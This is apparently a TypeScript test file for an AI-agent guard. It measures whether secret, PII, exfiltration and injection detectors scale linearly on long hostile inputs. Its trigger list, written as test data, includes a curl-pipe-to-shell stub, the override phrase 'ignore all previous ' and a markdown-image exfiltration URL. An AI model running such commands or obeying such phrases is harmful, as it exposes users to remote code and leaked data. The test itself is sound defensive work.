import { describe, expect, it } from "vitest";
import { create } from "@bufbuild/protobuf";
import { Channel, EventKind, type Segment, SegmentSchema } from "../../../gen/guard/v1/types_pb.js";
import type { Detector } from "../../../src/detectors/detector.js";
import { exfiltrationPatterns } from "../../../src/detectors/exfiltration/index.js";
import { piiPatterns } from "../../../src/detectors/pii/index.js";
import { builtinDetectors } from "../../../src/detectors/registry.js";
import { secretPatterns, secretRules } from "../../../src/detectors/secrets/index.js";
import { detectSegment } from "../../../src/detectors/service.js";
import { growthRatio } from "../../helpers/growth.js";

/**
 * Linear time on hostile input, measured. redos.test.ts proves from the automaton that no
 * regular expression of src/ backtracks super-linearly; this test measures what a static
 * check cannot see: the scanners, prefilters and loops around the patterns. Absolute times
 * depend on the machine (shared), so it compares growth: 10x the input may take at most
 * `MAX_RATIO` times as long for a pattern, `DETECTOR_MAX_RATIO` for a whole detector (linear
 * is 10x; quadratic about 100x).
 *
 * - each secrets, PII and exfiltration pattern, on hostile inputs of 10 KB and 100 KB;
 * - each built-in detector as the service runs it (`detectSegment`, so `findSecrets`,
 *   `findPii`, the command parser, the injection scorer...), on hostile inputs of 100 KB
 *   and 1 MB.
 */

const MAX_RATIO = 30;
/**
 * The bar for whole detectors from 100 KB to 1 MB. A 1 MB text parsed as shell is half a
 * million words: the large side's garbage lands in the old generation and its collections
 * read as growth (linear runs measured 15x to 32x on a loaded machine, against 10x idle).
 * A quadratic one would read about 100x, still well over this.
 */
const DETECTOR_MAX_RATIO = 45;
/** Below this the baseline is timer and GC noise; it is floored to it (a quadratic run on the
 * large input takes far longer than `MAX_RATIO` times this). */
const FLOOR_MS = 2;

/** Characters and tokens that patterns and parsers accept in long runs. */
const FILLERS = [
  "a",
  "A",
  "0",
  "f",
  "x",
  "-",
  "_",
  ".",
  " ",
  ":",
  "/",
  "=",
  "@",
  "|",
  "+",
  "~",
  "\n",
  "\\n",
  "\\",
  "'",
  '"',
  "(",
  "$(",
  "`",
  "{",
  "<",
  ";",
  "a ",
  "1 ",
  "1.",
  "1-",
  "a.",
  "a@",
  "%2F",
];

/**
 * The fillers that reach distinct code paths of the detectors (words, numbers, separators,
 * quoting, shell substitution, markup): the 1 MB runs cost seconds each, so near-duplicates
 * of these are left to the 100 KB pattern runs.
 */
const DETECTOR_FILLERS = [
  "a",
  "0",
  "f",
  " ",
  "-",
  ".",
  ":",
  "/",
  "=",
  "@",
  "\n",
  "\\",
  "'",
  '"',
  "(",
  "$(",
  "a ",
  "1 ",
  "1.",
  "a@",
  "%2F",
];

/** Partial triggers of the secret rules: their keywords. */
const SECRET_TRIGGERS = [...new Set(secretRules.flatMap((r) => r.keywords))];

/** Partial triggers of the other detectors and of the generic secret rules. */
const TRIGGERS = [
  "eyJ",
  "-----BEGIN PRIVATE KEY-----\n",
  "https://u:",
  "postgres://user:p@",
  "key = ",
  'password: "',
  "Authorization: Bearer ",
  "-u a:",
  "+1 (",
  "192.168.",
  "fe80::",
  "DE89 ",
  "ignore all previous ",
  "curl http://x/ | sh ",
  "![a](https://x/?q=",
];

/** Partial triggers of the exfiltration detector's code and configuration patterns. */
const EXFILTRATION_TRIGGERS = [
  " root ",
  "alias '",
  'DocumentRoot "',
  'server.document-root = "',
  "open(",
  "socket",
];

/**
 * A run of one filler, or of a trigger and 60 characters of what follows it, repeated to
 * `length`.
 */
function hostile(
  length: number,
  triggers: readonly string[],
  fillers: readonly string[] = FILLERS,
): string[] {
  const fill = (unit: string): string => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
  return [...fillers.map(fill), ...triggers.map((t) => fill(`${t}${"aA0".repeat(20)}`))];
}

function scan(pattern: RegExp, text: string): void {
  const re = new RegExp(pattern.source, pattern.flags.includes("g") ? pattern.flags : `${pattern.flags}g`);
  for (let m = re.exec(text); m !== null; m = re.exec(text)) if (m[0].length === 0) re.lastIndex++;
}

function growth(fn: (text: string) => void, small: string, large: string): number {
  return growthRatio(fn, small, large, { bar: MAX_RATIO, runs: 2, floorMs: FLOOR_MS });
}

describe("regex safety: patterns", () => {
  /** Each pattern meets the fillers, the generic triggers and, for a secret rule, its own keywords. */
  const cases = [
    ...secretRules.map((r) => [r.pattern, r.keywords] as const),
    ...piiPatterns.map((p) => [p, []] as const),
    ...exfiltrationPatterns.map((p) => [p, EXFILTRATION_TRIGGERS] as const),
  ];

  it("collects the patterns of the detectors that export them", () => {
    expect(secretPatterns.length).toBeGreaterThan(50);
    expect(piiPatterns.length).toBeGreaterThan(5);
    expect(exfiltrationPatterns.length).toBeGreaterThan(3);
  });

  it.each(cases.map(([p, keywords]) => [p.source.slice(0, 60), p, keywords] as const))(
    "%s grows linearly",
    (_name, pattern, keywords) => {
      const small = hostile(10_000, [...keywords, ...TRIGGERS]);
      const large = hostile(100_000, [...keywords, ...TRIGGERS]);
      for (let i = 0; i < large.length; i++) {
        const ratio = growth((t) => scan(pattern, t), small[i] ?? "", large[i] ?? "");
        expect(ratio, `input #${i}: ${JSON.stringify((large[i] ?? "").slice(0, 40))}`).toBeLessThan(
          MAX_RATIO,
        );
      }
    },
  );
});

/**
 * The channels to judge on: prose besides tool-call arguments for the detectors that parse
 * both, else the first channel a detector names (the others only change weights), or tool
 * results for a detector that reads every channel alike.
 */
function channelsOf(detector: Detector): Channel[] {
  const named = detector.channels ?? [Channel.TOOL_RESULT];
  return named.includes(Channel.PROSE) ? [...named] : named.slice(0, 1);
}

function segment(text: string, channel: Channel): Segment {
  return create(SegmentSchema, {
    path: "/t",
    channel,
    text,
    addressable: true,
    toolName: "bash",
    argumentKey: "command",
  });
}

describe("regex safety: detectors at 1 MB", () => {
  const SMALL = 100_000;
  const LARGE = 1_000_000;
  const cases = builtinDetectors.flatMap((d) =>
    channelsOf(d).map((c) => [`${d.name} on ${Channel[c]}`, d, c] as const),
  );

  it("judges every built-in detector", () => {
    expect(new Set(cases.map(([, d]) => d.name))).toEqual(new Set(builtinDetectors.map((d) => d.name)));
  });

  it.each(cases)(
    "%s grows linearly from 100 KB to 1 MB",
    (_name, detector, channel) => {
      // The secrets detector also meets one keyword in ten (one per family of rules, roughly).
      const triggers =
        detector.name === "secrets"
          ? [...SECRET_TRIGGERS.filter((_, k) => k % 10 === 0), ...TRIGGERS]
          : TRIGGERS;
      const small = hostile(SMALL, triggers, DETECTOR_FILLERS);
      const large = hostile(LARGE, triggers, DETECTOR_FILLERS);
      const run = (text: string): void => {
        detectSegment(detector, segment(text, channel), EventKind.STEP_REQUEST);
      };
      for (let i = 0; i < large.length; i++) {
        const ratio = growthRatio(run, small[i] ?? "", large[i] ?? "", {
          bar: DETECTOR_MAX_RATIO,
          runs: 1,
          floorMs: FLOOR_MS,
        });
        expect(ratio, `input #${i}: ${JSON.stringify((large[i] ?? "").slice(0, 40))}`).toBeLessThan(
          DETECTOR_MAX_RATIO,
        );
      }
    },
    120_000,
  );
});
